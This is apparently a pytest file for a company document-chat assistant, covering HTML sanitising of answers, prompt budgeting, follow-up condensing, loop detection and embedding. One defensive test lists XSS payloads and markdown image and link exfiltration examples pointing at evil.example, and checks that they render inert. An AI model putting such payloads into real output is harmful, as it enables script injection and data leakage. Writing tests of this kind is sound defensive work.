"""Pure parts of the chat: answer sanitising, the prompt budget, follow-up condensing, the
question's embedding."""

import asyncio

import numpy as np
import pytest
import torch

from assistant.prompts import (
    SYSTEM_PROMPT,
    Source,
    build_prompt,
    condense_question,
)
from assistant.rendering import ALLOWED_TAGS, answer_html
from assistant.repetition import looping
from ingestion.embedding import embed_query, embed_query_async, embed_texts


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>window.__pwned=1</script>",
        '<img src=x onerror="window.__pwned=1">',
        '<a href="javascript:alert(1)">click</a>',
        "[click](javascript:alert(1))",
        "![tracker](https://evil.example/pixel.png?secret=1)",
        '<svg onload="alert(1)"></svg>',
        '<iframe src="https://evil.example"></iframe>',
        "[exfiltrate](https://evil.example/?q=salary)",
        '<p style="background:url(https://evil.example)">x</p>',
    ],
)
def test_answers_render_hostile_markup_inert(hostile):
    html = answer_html(f"Before {hostile} after")
    # Parse what the browser would: only allow-listed tags, no attribute but our own links.
    tags = _tags(html)
    assert {tag for tag, _ in tags} <= ALLOWED_TAGS, html
    for tag, attrs in tags:
        for name, value in attrs:
            assert tag == "a" and name in ("href", "rel"), html
            if name == "href":
                assert value.startswith("/documents/"), html
    assert "Before" in html and "after" in html


def _tags(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    from html.parser import HTMLParser

    found: list = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(html)
    return found


def test_answers_keep_markdown_and_links_to_our_own_documents():
    html = answer_html("**Leave**: 30 days [1].\n\n- one\n- two\n\n[policy](/documents/4/#chunk-2)")
    assert "<strong>Leave</strong>" in html
    assert "<li>one</li>" in html
    assert 'href="/documents/4/#chunk-2"' in html


def test_protocol_relative_links_are_not_our_documents():
    assert "href" not in answer_html("[x](//evil.example/documents/1)")


def count_words(text: str) -> int:
    return len(text.split())


def test_prompt_fits_the_budget_and_never_cuts_a_source():
    sources = [Source(n, f"Doc {n}", "Section", None, "word " * 100) for n in range(1, 6)]
    fixed = count_words(SYSTEM_PROMPT) + count_words("How long?") + 40
    per_source = 100 + 5 + 2  # text, "Source: Doc n — Section", separator
    budget = fixed + 2 * per_source + 50  # room for two sources and a half
    prompt = build_prompt(
        question="How long?", sources=sources, count_tokens=count_words, budget_tokens=budget
    )
    assert prompt.prompt_tokens <= budget
    assert [s.number for s in prompt.sources] == [1, 2]
    assert prompt.messages[0] == ("system", SYSTEM_PROMPT)
    user = prompt.messages[1][1]
    assert "Source: Doc 1 — Section" in user and "Doc 3" not in user
    # No "[1]" for a small model to copy instead of answering: the app attaches the sources.
    assert "[1]" not in user and "[1]" not in SYSTEM_PROMPT
    assert user.endswith("Question: How long?")


def test_prompt_without_sources_still_asks_the_question():
    prompt = build_prompt(question="Q?", sources=[], count_tokens=count_words, budget_tokens=100)
    assert prompt.sources == [] and prompt.messages[1][1] == "Question: Q?"


def test_follow_ups_are_completed_from_the_previous_question():
    previous = ["What is the hotel limit in Leipzig?"]
    assert condense_question("And in Munich?", previous) == (
        "What is the hotel limit in Leipzig? And in Munich?"
    )
    standalone = "How many days of annual leave do part-time employees get per year?"
    assert condense_question(standalone, previous) == standalone
    assert condense_question("Hi", []) == "Hi"


def test_a_loop_is_told_from_a_long_answer():
    assert looping("The answer is: 1. The answer is: 2. The answer is: 3. The answer is: 4. ")
    assert looping("Call 4357. " * 5)
    prose = (
        "Hotels are booked through the portal. The rate is EUR 190 per night in Munich and "
        "EUR 150 elsewhere; breakfast is included. Trains over four hours go first class. "
    )
    assert not looping(prose)
    assert not looping("- 30 days of leave\n- 10:00 to 15:00 core hours\n- 4357 for IT\n")
    assert not looping("a. b. c. ")  # short repeats are punctuation, not a loop


QUESTIONS = [
    "How many vacation days do I get?",
    "Wie viele Urlaubstage habe ich? Ünïcode, CAPITALS and 2024-05-01.",
    # Longer than the model's 256 tokens: both paths must truncate alike.
    " ".join(["What does the travel policy say about trains, hotels and per diems?"] * 40),
]


def test_a_question_is_embedded_exactly_as_indexing_embeds_texts():
    indexed = embed_texts(QUESTIONS)  # the batch path documents are indexed with

    for question, vector in zip(QUESTIONS, indexed, strict=True):
        np.testing.assert_allclose(embed_query(question), vector, atol=1e-5)


def test_the_query_thread_leaves_other_threads_torch_settings_alone():
    threads = torch.get_num_threads()

    vector = asyncio.run(embed_query_async(QUESTIONS[0]))

    np.testing.assert_allclose(vector, embed_texts(QUESTIONS[:1])[0], atol=1e-5)
    assert torch.get_num_threads() == threads
